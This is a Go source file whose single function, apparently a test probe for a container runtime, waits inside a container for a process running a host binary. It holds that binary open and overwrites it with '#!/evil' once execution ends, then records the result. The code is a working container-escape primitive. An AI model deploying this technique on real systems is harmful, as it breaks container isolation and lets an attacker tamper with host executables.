package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"
)

// take waits for a process that executes a file which is not in this container, keeps hold of that file, and writes to
// it as soon as nobody executes it any more. What became of it is written to the file result: whoever reads our output
// may have ended by then.
func take(result string) error {
	own, err := os.Stat("/proc/self/exe")
	if err != nil {
		return err
	}
	fmt.Println("waiting")
	var held *os.File
	for held == nil {
		list, err := filepath.Glob("/proc/[0-9]*/exe")
		if err != nil {
			return err
		}
		for _, name := range list {
			f, err := os.OpenFile(name, unix.O_PATH, 0)
			if err != nil {
				continue // it has ended
			}
			if is, err := f.Stat(); err == nil && !os.SameFile(is, own) {
				held = f
				break
			}
			f.Close()
		}
		time.Sleep(time.Millisecond)
	}
	fmt.Println("holding")
	for {
		w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", held.Fd()), os.O_WRONLY, 0)
		if errors.Is(err, unix.ETXTBSY) {
			time.Sleep(time.Millisecond)
			continue
		}
		said := "written"
		if err == nil {
			_, err = w.WriteString("#!/evil")
		}
		if err != nil {
			said = err.Error()
		}
		if err := os.WriteFile(result+".new", []byte(said), 0o644); err != nil {
			return err
		}
		if err := os.Rename(result+".new", result); err != nil {
			return err
		}
		select {}
	}
}
